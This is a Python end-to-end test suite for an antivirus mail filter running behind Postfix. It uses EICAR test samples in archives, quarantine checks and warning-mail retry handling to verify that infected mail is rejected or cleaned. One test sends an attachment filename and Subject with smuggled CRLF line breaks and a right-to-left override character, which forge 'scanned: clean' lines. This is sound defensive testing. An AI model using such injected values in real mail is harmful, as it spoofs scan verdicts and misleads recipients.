"""sekimori-antivirus through a real Postfix (R-AV-1 … R-AV-7).

The signature database is generated here: an .ndb body signature for the
EICAR test string (no network, no freshclam). Samples are built here too:
plain, base64 attachment, zip, zip nested 8 and 9 deep, tar.gz, LZH,
encrypted zip, HTML with script, clean ISO-2022-JP mail. Outbound mail is
played with XCLIENT ADDR from internal_networks. Warning mails are
submitted to the same Postfix and reach the sink.
"""

import base64
import email
import email.policy
import glob
import io
import os
import quopri
import re
import shutil
import signal
import smtplib
import socket
import struct
import subprocess
import tarfile
import tempfile
import threading
import time
import unittest
import zipfile
import zlib

import harness

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SIGNAME = "Sekimori.Test.EICAR"

# The warning-mail templates as shipped (conf/).
TEMPLATES = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "conf"))

CONF = """\
[milter]
log_level = debug
[policy]
local_domains = example.net
internal_networks = 10.0.0.0/8
[engine]
database_dir = {db}
workers = 2
scan_timeout = 5s
max_scan_time = 4s
db_check_interval = 1h
[notify]
admin = {admin}
from = postmaster@example.net
smtp_url = smtp://127.0.0.1:{port}
template_dir = {templates}
spool_dir = {outbox}
[quarantine]
dir = {quarantine}
"""


def fs_type(path):
    """The type of the file system `path` is on, from /proc/self/mounts
    (the longest mount point that contains it)."""
    path = os.path.realpath(path)
    best, kind = "", None
    with open("/proc/self/mounts") as f:
        for line in f:
            mount, fstype = line.split()[1:3]
            if (path == mount or path.startswith(mount.rstrip("/") + "/")) and len(mount) >= len(best):
                best, kind = mount, fstype
    return kind


def ndb_line(name, data):
    return "%s:0:*:%s\n" % (name, data.hex())


def zip_of(name, data, password=None):
    if password:
        d = tempfile.mkdtemp()
        try:
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
            subprocess.run(["zip", "-q", "-P", password, "out.zip", name], cwd=d, check=True)
            with open(os.path.join(d, "out.zip"), "rb") as f:
                return f.read()
        finally:
            shutil.rmtree(d)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, data)
    return buf.getvalue()


def nested_zip(depth):
    data = zip_of("eicar.com", EICAR)
    for i in range(depth - 1):
        data = zip_of("level%d.zip" % (depth - 1 - i), data)
    return data


def targz_of(name, data):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def lzh_of(name, data):
    d = tempfile.mkdtemp()
    try:
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)
        subprocess.run(["lha", "aq", "out.lzh", name], cwd=d, check=True, capture_output=True)
        with open(os.path.join(d, "out.lzh"), "rb") as f:
            return f.read()
    finally:
        shutil.rmtree(d)


def gpg_outputs(data, kinds=("symmetric", "public", "signed")):
    """What GnuPG writes without --armor: encrypted with a passphrase, to an
    RSA and a Curve25519 key, and signed only (compressed, not encrypted);
    those of `kinds`."""
    home = tempfile.mkdtemp(prefix="sekimori-gpg-")
    gpg = ["gpg", "--homedir", home, "--batch", "-q", "--pinentry-mode", "loopback"]
    plain = os.path.join(home, "in.txt")
    try:
        with open(plain, "wb") as f:
            f.write(data)
        for uid, algo, usage in (("r@example.net", "rsa2048", "encr"), ("c@example.net", "future-default", "default")):
            if uid == "r@example.net" and "public" not in kinds:
                continue
            subprocess.run(gpg + ["--passphrase", "", "--quick-gen-key", uid, algo, usage, "never"],
                           check=True, capture_output=True)
        out = {}
        for name, args in (("symmetric", ["--passphrase", "x", "--symmetric"]),
                           ("public", ["--trust-model", "always", "-r", "r@example.net", "-r", "c@example.net",
                                       "--encrypt"]),
                           ("signed", ["--local-user", "c@example.net", "--sign"])):
            if name not in kinds:
                continue
            path = os.path.join(home, name + ".gpg")
            subprocess.run(gpg + args + ["-o", path, plain], check=True, capture_output=True)
            with open(path, "rb") as f:
                out[name] = f.read()
        return out
    finally:
        # gpg started an agent for this home: stop it (only it), then remove the home.
        subprocess.run(["gpgconf", "--homedir", home, "--kill", "all"], capture_output=True)
        shutil.rmtree(home, True)


JA_TEXT = "\u4f1a\u8b70\u306e\u8cc7\u6599\u3092\u304a\u9001\u308a\u3057\u307e\u3059\u3002\r\n"


def rar4_stored(files, encrypted=False):
    """A RAR 4 archive of stored entries, as `rar a -m0` writes one (no RAR
    writer is packaged; the format is in RAR's technote.txt). `encrypted`
    sets each entry's password flag (the data stays as it is)."""
    def block(kind, flags, rest):
        h = bytes([kind]) + struct.pack("<HH", flags, 7 + len(rest)) + rest
        return struct.pack("<H", zlib.crc32(h) & 0xFFFF) + h
    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, b"\0" * 6)
    for name, data in files:
        rest = struct.pack("<IIBIIBBHI", len(data), len(data), 3, zlib.crc32(data), 0x5A210000, 0x14, 0x30,
                           len(name), 0x81A4) + name
        out += block(0x74, 0x8000 | (0x04 if encrypted else 0), rest) + data
    return out + block(0x7B, 0x4000, b"")


def with_attachment(payload, filename, ctype="application/octet-stream", frm="sender@example.org",
                    to="user@example.net", msgid=None, subject="attachment", headers=()):
    """multipart/mixed: an ISO-2022-JP text part, a UTF-8 text part, the attachment."""
    b64 = base64.encodebytes(payload).decode().replace("\n", "\r\n")
    jis = JA_TEXT.encode("iso-2022-jp")
    parts = (b"--B1\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n\r\n" +
             jis + b"--B1\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
             "添付をご確認ください\r\n".encode() +
             ("--B1\r\nContent-Type: %s; name=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n"
              "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n%s--B1--\r\n"
              % (ctype, filename, filename, b64)).encode())
    return harness.make_message(subject=subject, msgid=msgid, frm=frm, to=to, body=parts,
                                headers=list(headers) + ["MIME-Version: 1.0",
                                                         "Content-Type: multipart/mixed; boundary=\"B1\""])


def warning_text(raw):
    """The body of a warning mail from the sink, decoded."""
    return email.message_from_bytes(raw, policy=email.policy.compat32).get_payload(decode=True).decode("utf-8")


def sink_warning(site, address, about=None):
    """The warning mail the sink of `site` got for `address` (whose text
    holds `about`, when given), or None. Each warning has one addressee, in
    To: and in the envelope (which smtp-sink writes with '?' for each
    non-ASCII byte)."""
    rcpt = re.sub(rb"[\x80-\xff]", b"?", address.encode())
    for m in site.sink.messages():
        if (b"X-Sekimori-Notice: antivirus" in m and b"X-Rcpt-Args: <%s>" % rcpt in m and
                b"\nTo: %s\n" % address.encode() in m and (about is None or about in warning_text(m))):
            return m
    return None


def make_database(tmp):
    db = os.path.join(tmp, "db")
    os.makedirs(db)
    with open(os.path.join(db, "sekimori-test.ndb"), "w") as f:
        f.write(ndb_line(SIGNAME, EICAR))
    return db


class TurnAwayRelay:
    """A relay on a loopback port that greets every session with 421 and
    hangs up — or, while `silent` is set, holds it open without a word —
    until `forward` is set; from then on it passes each session through to
    127.0.0.1:`to_port`."""

    def __init__(self, to_port):
        self.to_port = to_port
        self.forward = False
        self.silent = False
        self.held = []  # the sessions held silent
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            if not self.forward and self.silent:
                self.held.append(c)
                continue
            if not self.forward:
                c.sendall(b"421 4.3.2 Service shutting down\r\n")
                c.close()
                continue
            up = socket.create_connection(("127.0.0.1", self.to_port))
            for a, b in ((c, up), (up, c)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    @staticmethod
    def _pump(src, dst):
        try:
            while True:
                data = src.recv(65536)
                if not data:
                    break
                dst.sendall(data)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
                s.close()

    def close(self):
        self.sock.close()
        for c in self.held:
            c.close()

def scanner_socket_dirs(pid):
    """The directories of the unix sockets that process `pid` and its
    descendants hold open under /tmp/sekimori-av.* (the scanner pool's)."""
    parents = {}
    for d in os.listdir("/proc"):
        try:
            with open("/proc/%s/stat" % d) as f:
                parents[int(d)] = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            pass
    family, grew = {pid}, True
    while grew:
        more = {p for p, pp in parents.items() if pp in family} - family
        family |= more
        grew = bool(more)
    inodes = set()
    for p in family:
        try:
            for fd in os.listdir("/proc/%d/fd" % p):
                link = os.readlink("/proc/%d/fd/%s" % (p, fd))
                if link.startswith("socket:["):
                    inodes.add(link[8:-1])
        except OSError:
            pass
    dirs = set()
    with open("/proc/net/unix") as f:
        for line in f.read().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and fields[6] in inodes and fields[7].startswith("/tmp/sekimori-av."):
                dirs.add(os.path.dirname(fields[7]))
    return sorted(dirs)


class AntivirusE2E(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if shutil.which("lha") is None:
            raise unittest.SkipTest("lha (jlha-utils) not installed")
        # Class cleanups run even when setUpClass raises half way.
        cls.tmp = tempfile.mkdtemp(prefix="sekimori-av-")
        cls.addClassCleanup(shutil.rmtree, cls.tmp, True)
        os.chmod(cls.tmp, 0o755)
        cls.db = make_database(cls.tmp)
        cls.quarantine = os.path.join(cls.tmp, "quarantine")
        cls.outbox = os.path.join(cls.tmp, "outbox")
        # The test build of the daemon: the scanner's fault-injection hooks
        # (a crash or a hang on marker strings) are compiled in only there.
        binary = os.path.join(harness.bindir(), "milters", "antivirus", "sekimori-antivirus-testhooks")
        cls.milter = harness.Milter("antivirus", cls.conf(port=1), binary=binary,
                                    env={"SEKIMORI_FAULT_INJECTION": "1"})
        cls.site = harness.Site([cls.milter], name="antivirus")
        cls.site.start()
        cls.addClassCleanup(cls.site.stop)
        # Warnings go to this Postfix, now that its port is known.
        cls.milter.write_conf(cls.conf(port=cls.site.port))
        cls.milter.reload()

    extra_conf = ""

    @classmethod
    def conf(cls, port, admin="av-admin@example.net"):
        return CONF.format(db=cls.db, admin=admin, port=port, templates=TEMPLATES,
                           quarantine=cls.quarantine, outbox=cls.outbox) + cls.extra_conf

    def send(self, data, **kw):
        return self.site.swaks(data=data, **kw)

    def reconfigure(self, extra):
        """The conf file with `extra` appended, reloaded; the test's
        cleanup puts the class's own back."""
        self.milter.write_conf(self.conf(port=self.site.port) + extra)
        self.milter.reload()
        def restore():
            self.milter.write_conf(self.conf(port=self.site.port))
            self.milter.reload()
        self.addCleanup(restore)

    def assertRefused(self, r, text=None):
        self.assertEqual(r.final, ("554", "5.7.1"), r.transcript[-1500:])
        if text:
            self.assertIn(text, r.final_text)

    def delivered(self, msgid):
        raw = self.site.sink.wait_for(msgid)
        return raw, email.message_from_bytes(raw, policy=email.policy.compat32)

    def wait_warning_to(self, address, about=None):
        """The warning mail the sink got for `address` (sink_warning; the
        admin gets one for every virus)."""
        try:
            return harness.wait_until(lambda: sink_warning(self.site, address, about), 20,
                                      "a warning mail to " + address)
        except TimeoutError:
            self.fail("no warning mail to %s\n--- milter log:\n%s\n--- Postfix log:\n%s" %
                      (address, self.milter.log()[-3000:], self.site.postfix_log()[-3000:]))

    def msgid(self, tag):
        return "<%s-%s@example.org>" % (tag, os.urandom(4).hex())

    # -- outbound: reject with the name ----------------------------------
    def test_outbound_attachment_is_rejected_with_the_virus_name(self):
        r = self.send(with_attachment(EICAR, "eicar.com", frm="alice@example.net", to="bob@remote.example"),
                      frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
        self.assertRefused(r, "Virus found: " + SIGNAME)
        # A warning to the sender and one to the admin, through Postfix to the sink.
        warning = self.wait_warning_to("alice@example.net")
        self.assertIn(b"X-Mail-Args: <>", warning)  # the null sender: a warning never bounces
        self.assertIn(b"=?UTF-8?B?", warning)  # the Japanese subject, RFC 2047 encoded
        self.assertIn("bob@remote.example", warning_text(warning))
        self.wait_warning_to("av-admin@example.net", "alice@example.net")

    def test_outbound_archives_are_scanned(self):
        for name, payload, ctype in [("a.zip", zip_of("eicar.com", EICAR), "application/zip"),
                                     ("a.tar.gz", targz_of("eicar.com", EICAR), "application/gzip"),
                                     ("a.lzh", lzh_of("eicar.com", EICAR), "application/x-lzh-compressed"),
                                     ("deep8.zip", nested_zip(8), "application/zip")]:
            with self.subTest(name=name):
                r = self.send(with_attachment(payload, name, ctype, frm="alice@example.net", to="bob@remote.example"),
                              frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
                self.assertRefused(r, "Virus found: " + SIGNAME)

    def test_nesting_past_the_recursion_limit_is_no_way_through(self):
        r = self.send(with_attachment(nested_zip(9), "deep9.zip", "application/zip", frm="alice@example.net",
                                      to="bob@remote.example"),
                      frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
        self.assertRefused(r, "Virus found:")

    # -- warning mails: one per addressee ---------------------------------
    def test_inbound_warnings_are_one_per_recipient_and_name_no_other(self):
        # user@ is in To:, hidden@ only in the envelope (Bcc), and 山田@ is a
        # UTF-8 (SMTPUTF8) address: each is warned alone, and no warning
        # tells one recipient who the others were; the admin's names all.
        msgid = self.msgid("bcc")
        rcpts = ["user@example.net", "hidden@example.net", "山田@example.net"]
        c = self.site.smtp()
        try:
            c.command_encoding = "utf-8"  # Postfix here runs without SMTPUTF8 and takes the bytes as they are
            refused = c.sendmail("sender@example.org", rcpts, with_attachment(EICAR, "eicar.com", msgid=msgid))
        finally:
            c.quit()
        self.assertEqual(refused, {})
        got, _ = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: removed: " + SIGNAME.encode(), got)
        qid = re.search(rb"by mx\.sekimori\.test \(Postfix\) with E?SMTP id (\w+)", got).group(1).decode()
        for r in rcpts:
            text = warning_text(self.wait_warning_to(r, qid))
            with self.subTest(recipient=r):
                self.assertIn(r, text)
                for other in rcpts:
                    if other != r:
                        self.assertNotIn(other, text)
        admin = warning_text(self.wait_warning_to("av-admin@example.net", qid))
        for r in rcpts:
            self.assertIn(r, admin)
        sent = lambda: [l for l in self.milter.log_lines(qid) if "warning=sent" in l]
        harness.wait_until(lambda: len(sent()) == 4, 10, "4 warning=sent log lines")

    def test_a_relay_that_never_answers_does_not_hold_the_reply(self):
        # Warnings are sent by a thread of their own: a relay that accepts
        # the connection and never greets costs the infected message's
        # reply nothing, and the failure is logged once notify.timeout ends.
        silent = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        silent.bind(("127.0.0.1", 0))
        silent.listen(8)
        self.addCleanup(silent.close)
        self.milter.write_conf(self.conf(port=silent.getsockname()[1]) + "[notify]\ntimeout = 3s\n")
        self.milter.reload()
        def restore():
            self.milter.write_conf(self.conf(port=self.site.port))
            self.milter.reload()
        self.addCleanup(restore)
        start = time.monotonic()
        qid = self.send_infected("slow-relay")
        self.assertLess(time.monotonic() - start, 2.5, "the reply waited for the warnings")
        # A timeout is a failure for now: deferred, to be tried again.
        deferred = lambda: [l for l in self.milter.log_lines(qid) if "warning=deferred" in l]
        harness.wait_until(lambda: len(deferred()) == 2, 15, "the recipient's and the admin's warnings to fail")
        self.assertIn("to=user@example.net", " ".join(deferred()))
        self.assertIn("to=av-admin@example.net", " ".join(deferred()))
        self.assertIn('tries=1 retry_in=1m error="smtp: Timeout was reached', deferred()[0])

    def warnings_through_relay_that_turns_away(self, retry_after):
        """For the rest of the test the milter submits its warnings to a
        TurnAwayRelay (421 until its `forward` is set) and retries after
        `retry_after`; afterwards, to this Postfix again (the milter started
        again first if the test left it stopped)."""
        relay = TurnAwayRelay(self.site.port)
        self.addCleanup(relay.close)
        self.milter.write_conf(self.conf(port=relay.port) + "[notify]\nretry_after = %s\n" % retry_after)
        self.milter.reload()
        def restore():
            if self.milter.proc is None:
                self.milter.start()
            self.milter.write_conf(self.conf(port=self.site.port))
            self.milter.reload()
        self.addCleanup(restore)
        return relay

    def spooled(self, qid):
        """The spool files of message `qid`'s warnings (earlier tests may
        have left others)."""
        found = []
        for n in os.listdir(self.outbox):
            try:
                with open(os.path.join(self.outbox, n), "rb") as f:
                    if n.endswith(".batch") and b"\norigin %d\n%s\n" % (len(qid), qid.encode()) in f.read():
                        found.append(n)
            except FileNotFoundError:
                pass
        return found

    def kill_milter(self):
        """SIGKILL: nothing of its stop runs. A killed daemon cannot remove
        its scanners' socket directory (the workers' temp directories are
        swept by the next start): the test does."""
        leftovers = scanner_socket_dirs(self.milter.proc.pid)
        self.assertTrue(leftovers)
        self.milter.kill()
        for d in leftovers:
            self.addCleanup(shutil.rmtree, d, True)

    def send_infected(self, tag):
        """Sends a message with EICAR attached (inbound: its warnings go to
        the recipient and the admin); its queue id once it is accepted."""
        r = self.send(with_attachment(EICAR, "eicar.com", msgid=self.msgid(tag)))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        return r.queue_id

    def wait_deferred(self, qid):
        """Waits until both warnings of message `qid` are logged deferred;
        those log lines."""
        deferred = lambda: self.milter.log_lines(qid + r".*warning=deferred")
        harness.wait_until(lambda: len(deferred()) >= 2, 15, "both warnings to be deferred")
        return deferred()

    def wait_taken_up(self, qid):
        harness.wait_until(lambda: self.milter.log_lines(
            re.escape(qid) + r": 2 warning mails not yet sent taken from " + re.escape(self.outbox)),
            10, "the spooled warnings to be taken up")

    def wait_warnings_sent(self, qid):
        """Waits for both warnings of message `qid` at the sink and logged
        sent; those log lines."""
        self.wait_warning_to("user@example.net", qid)
        self.wait_warning_to("av-admin@example.net", qid)
        harness.wait_until(lambda: len(self.milter.log_lines(qid + r".*warning=sent")) == 2, 10,
                           "both warnings logged sent")
        return self.milter.log_lines(qid + r".*warning=sent")

    def test_warnings_a_relay_turns_away_for_now_are_sent_once_it_takes_mail(self):
        # A relay that answers 421 (being restarted, say): the warnings are
        # deferred, tried again after retry_after, and delivered as soon as
        # the relay takes mail again; the message's reply never waited.
        relay = self.warnings_through_relay_that_turns_away("1s")
        qid = self.send_infected("relay-away")
        deferred = self.wait_deferred(qid)
        self.assertIn("(server: 421 4.3.2 Service shutting down)", deferred[0])
        self.assertIn("tries=1 retry_in=1s", deferred[0])
        self.assertEqual(self.milter.log_lines(qid + r".*warning=sent"), [])
        relay.forward = True
        # The sink can have a warning before the milter has logged it sent
        # (seen under load): wait for both.
        sent = self.wait_warnings_sent(qid)
        for line in sent:
            tries = int(re.search(r" tries=(\d+)", line).group(1))
            self.assertGreaterEqual(tries, 2, line)
        self.assertEqual([l for l in self.milter.log_lines(qid) if "warning=failed" in l], [])

    def test_a_relay_fixed_by_a_reload_takes_the_deferred_warnings(self):
        # The relay named in [notify] smtp_url turns the warnings away for
        # good; the admin names a working one and reloads: the deferred
        # warnings go there at once, not after their hour's wait.
        relay = self.warnings_through_relay_that_turns_away("1h")
        qid = self.send_infected("reload-relay")
        # (retry_for = 1h too: the wait ends a few ms short of the hour.)
        self.assertRegex(self.wait_deferred(qid)[0], r" tries=1 retry_in=(1h|3599\d{3}ms) ")
        self.milter.write_conf(self.conf(port=self.site.port) + "[notify]\nretry_after = 1h\n")
        self.milter.reload()
        self.wait_warnings_sent(qid)
        self.assertFalse(relay.forward)

    def test_warnings_waiting_for_a_retry_outlive_a_killed_milter(self):
        # The relay turns the warnings away for now; the milter is then
        # killed (SIGKILL: nothing of its stop runs). The deferred warnings
        # are in notify.spool_dir, and the milter started again sends them
        # through the relay its conf file names now.
        relay = self.warnings_through_relay_that_turns_away("2s")
        qid = self.send_infected("spooled")
        self.wait_deferred(qid)
        spooled = lambda: self.spooled(qid)
        harness.wait_until(lambda: len(spooled()) == 1, 5, "the deferred warnings to be spooled")
        self.assertEqual(os.stat(self.outbox).st_mode & 0o777, 0o700)
        self.assertEqual(os.stat(os.path.join(self.outbox, spooled()[0])).st_mode & 0o777, 0o600)
        # What the admin sees (spool_dir read from the milter's conf file).
        def listed():
            r = harness.sekimori_cli("outbox", "list", "-c", self.milter.conf_path)
            self.assertEqual(r.returncode, 0, r.stderr)
            return r, [l for l in r.stdout.splitlines() if "  %s  " % qid in l]
        # The batch's file is written before its first try and rewritten
        # after it; each warning is logged deferred as it is turned away,
        # before that (CI once killed the milter in between: "tries=0").
        harness.wait_until(lambda: any(" tries=1 " in l for l in listed()[1]), 5, "the try to be recorded in the spool")
        self.kill_milter()
        r, mine = listed()
        self.assertEqual(len(mine), 1, r.stdout)
        self.assertRegex(mine[0], r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ  %s  %s  tries=1  next=\S+ \S+  "
                         r"via smtp://127\.0\.0\.1:%d  -> " % (re.escape(spooled()[0]), qid, relay.port))
        self.assertIn("user@example.net", mine[0])
        self.assertIn("av-admin@example.net", mine[0])
        self.assertRegex(r.stdout.splitlines()[-1],
                         r"^\d+ warning mails not yet sent, in \d+ batch(es)?, in %s$" % re.escape(self.outbox))
        r = harness.sekimori_cli("outbox", "list", "-d", os.path.join(self.tmp, "no-such-dir"))
        self.assertEqual(r.returncode, 2, r.stdout + r.stderr)
        self.assertIn("cannot read", r.stderr)
        # Meanwhile the admin points [notify] smtp_url at a relay that
        # works (this Postfix); the old one keeps turning mail away. The
        # spooled warnings follow the conf file as it is now.
        self.milter.write_conf(self.conf(port=self.site.port) + "[notify]\nretry_after = 2s\n")
        self.milter.start()
        self.wait_taken_up(qid)
        for line in self.wait_warnings_sent(qid):
            self.assertGreaterEqual(int(re.search(r" tries=(\d+)", line).group(1)), 2, line)
        harness.wait_until(lambda: spooled() == [], 5, "the spool file to go once both are sent")

    def test_warnings_not_tried_yet_outlive_a_killed_milter(self):
        # The relay holds its sessions without a word: the first message's
        # warnings are being sent, the second's queued behind them, when the
        # milter is killed. Each message's warnings were on disk before its
        # reply; the milter started again sends all four.
        relay = self.warnings_through_relay_that_turns_away("2s")
        relay.silent = True
        qids = []
        for n in range(2):
            qids.append(self.send_infected("queued-%d" % n))
            self.assertEqual(len(self.spooled(qids[-1])), 1, "spooled before the reply")
        harness.wait_until(lambda: relay.held, 10, "the first warnings' session to reach the relay")
        self.assertEqual(self.milter.log_lines(r"(%s|%s).*warning=(sent|deferred|failed)" % tuple(qids)), [])
        self.kill_milter()
        r = harness.sekimori_cli("outbox", "list", "-d", self.outbox)
        self.assertEqual(r.returncode, 0, r.stderr)
        for qid in qids:
            mine = [l for l in r.stdout.splitlines() if "  %s  " % qid in l]
            self.assertEqual(len(mine), 1, r.stdout)
            self.assertRegex(mine[0], r"^\(not tried yet\)  %s  %s  tries=0  " % (re.escape(self.spooled(qid)[0]), qid))
        relay.forward = True
        self.milter.start()
        for qid in qids:
            self.wait_taken_up(qid)
            self.wait_warnings_sent(qid)
            harness.wait_until(lambda: self.spooled(qid) == [], 5, "the spool file to go once both are sent")

    def test_a_forged_notice_header_does_not_stop_the_warnings(self):
        # Anyone can write X-Sekimori-Notice; only a Message-ID the milter
        # issued makes a mail one of its own warnings.
        r = self.send(with_attachment(EICAR, "eicar.com", msgid=self.msgid("forged"),
                                      headers=["X-Sekimori-Notice: antivirus"]))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        self.wait_warning_to("user@example.net", r.queue_id)

    def test_a_warning_that_is_itself_infected_brings_no_warning_about_it(self):
        # The subject is the EICAR string: each warning quotes it, so each
        # warning is infected when it comes back through the milter (the
        # relay is this Postfix) and is refused there; no warning is sent
        # about a warning, so there is no loop.
        before = len(self.milter.log())
        r = self.send(harness.make_message(subject=EICAR.decode(), msgid=self.msgid("loop")))
        self.assertRefused(r, "Virus found")  # the message itself carries it: refused, warnings sent
        line = [l for l in self.milter.log()[before:].splitlines()
                if "action=reject" in l and "from=<sender@example.org>" in l]
        self.assertEqual(len(line), 1, self.milter.log()[before:])
        qid = re.match(r"\S+: (\w+): ", line[0]).group(1)
        failed = lambda: [l for l in self.milter.log_lines(qid) if "warning=failed" in l]
        harness.wait_until(lambda: len(failed()) == 2, 15, "the recipient's and the admin's warnings to be refused")
        self.assertIn("(server: 554 5.7.1 Virus found: %s" % SIGNAME, " ".join(failed()))
        # The two warnings' own log lines (null sender, refused) and no warning about either.
        time.sleep(1)
        notices = [l for l in self.milter.log().splitlines()
                   if "action=reject" in l and "from=<>" in l and "infected:" in l]
        notice_qids = {re.match(r"\S+: (\w+): ", l).group(1) for l in notices}
        self.assertGreaterEqual(len(notice_qids), 2, "\n".join(notices))
        for nq in notice_qids:
            self.assertEqual([l for l in self.milter.log_lines(nq) if "warning=" in l], [], nq)

    def test_inbound_removal_that_leaves_a_finding_refuses_the_whole(self):
        # The virus string in a part's header lines as well as in an
        # attachment: cutting the attachment out would deliver the rest
        # still infected (found by fuzz_antivirus), so the message is refused.
        raw = with_attachment(EICAR, "eicar.com", msgid=self.msgid("leftover"))
        raw = raw.replace(b"--B1\r\nContent-Type: text/plain; charset=UTF-8\r\n",
                          b"--B1\r\nContent-Type: text/plain; charset=UTF-8\r\nX-Note: " + EICAR + b"\r\n", 1)
        r = self.send(raw)
        self.assertRefused(r, "Virus found: " + SIGNAME)
        self.assertIn("still infected", self.milter.log())

    # -- inbound: remove the attachment ---------------------------------
    def test_inbound_infected_attachment_is_removed_and_the_rest_kept(self):
        msgid = self.msgid("remove")
        raw = with_attachment(EICAR, "eicar.com", msgid=msgid)
        r = self.send(raw)
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        self.assertNotIn(b"EICAR-STANDARD", got)
        self.assertNotIn(base64.encodebytes(EICAR)[:40], got)
        self.assertIn(b"X-Virus-Status: removed: " + SIGNAME.encode(), got)
        self.assertIn(b"X-Virus-Scanned: sekimori-antivirus", got)
        # The two text parts are byte-identical, Japanese intact.
        # (smtp-sink writes LF line ends.)
        self.assertIn(b"charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n" +
                      JA_TEXT.encode("iso-2022-jp").replace(b"\r\n", b"\n") + b"--B1\n", got)
        self.assertIn("8bit\n\n添付をご確認ください\n--B1\n".encode(), got)
        # The recipient is warned too.
        self.wait_warning_to("user@example.net")
        notice = [p for p in msg.walk() if p.get_content_type() == "text/plain" and
                  b"eicar.com" in (p.get_payload(decode=True) or b"")]
        self.assertEqual(len(notice), 1, got[-2000:])
        self.assertIn("ウイルス", notice[0].get_payload(decode=True).decode("utf-8"))
        # Quarantined, with the queue id, for the admin only.
        qid = r.queue_id
        with open(os.path.join(self.quarantine, "index.tsv")) as f:
            index = f.read()
        line = [l for l in index.splitlines() if qid and qid in l]
        self.assertTrue(line, index)
        self.assertIn("inbound", line[0])
        self.assertIn(SIGNAME, line[0])
        held = os.path.join(self.quarantine, line[0].split("\t")[1])
        self.assertEqual(os.stat(held).st_mode & 0o777, 0o600)
        self.assertEqual(os.stat(self.quarantine).st_mode & 0o777, 0o700)
        with open(held, "rb") as f:
            original = f.read()
        self.assertIn(base64.encodebytes(EICAR)[:40], original)  # the original, infected part included
        self.assertIn(msgid.encode(), original)
        # An attachment without a name is named by its media type.
        msgid = self.msgid("remove-nameless")
        r = self.send(harness.make_message(
            msgid=msgid, headers=["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"N\""],
            body="--N\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--N\r\n"
                 "Content-Type: application/x-msdownload\r\nContent-Disposition: attachment\r\n"
                 "Content-Transfer-Encoding: base64\r\n\r\n" +
                 base64.encodebytes(EICAR).decode().replace("\n", "\r\n") + "--N--\r\n"))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        self.assertNotIn(base64.encodebytes(EICAR)[:40], got)
        notice = msg.get_payload()[1].get_payload(decode=True).decode("utf-8")
        self.assertIn('The attachment "(no name, application/x-msdownload)" contained a virus (%s.UNOFFICIAL)'
                      % SIGNAME, notice)
        self.assertIn("添付ファイル「(no name, application/x-msdownload)」からウイルス", notice)
        self.wait_warning_to("user@example.net", about="(no name, application/x-msdownload)")
        # The sender's file name and Subject are shown on one line each,
        # without bidirectional controls: no line of theirs in our notice
        # or warning ("scanned: clean", "Virus: none").
        msgid = self.msgid("remove-lines")
        crlf_subject = "=?UTF-8?B?%s?=" % base64.b64encode("Hello \"you\"\r\nVirus: none".encode()).decode()
        r = self.send(harness.make_message(
            msgid=msgid, subject=crlf_subject,
            headers=["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"N\""],
            body="--N\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--N\r\n"
                 "Content-Type: application/octet-stream\r\n"
                 "Content-Disposition: attachment; filename*=UTF-8''a.exe%0D%0Ascanned%3A%20clean%E2%80%AE\r\n"
                 "Content-Transfer-Encoding: base64\r\n\r\n" +
                 base64.encodebytes(EICAR).decode().replace("\n", "\r\n") + "--N--\r\n"))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        notice = msg.get_payload()[1].get_payload(decode=True).decode("utf-8")
        shown = "a.exe\\x0d\\x0ascanned: clean\\xe2\\x80\\xae"
        self.assertIn('The attachment "%s" contained a virus' % shown, notice)
        self.assertIn("添付ファイル「%s」からウイルス" % shown, notice)
        self.assertNotIn("\u202e", notice)
        warning = warning_text(self.wait_warning_to("user@example.net", about=shown))
        self.assertIn('Hello "you"\\x0d\\x0aVirus: none', warning)
        self.assertFalse([l for l in warning.splitlines() if l.startswith(("Virus: none", "scanned: clean"))],
                         warning)

    def test_inbound_infected_body_is_rejected(self):
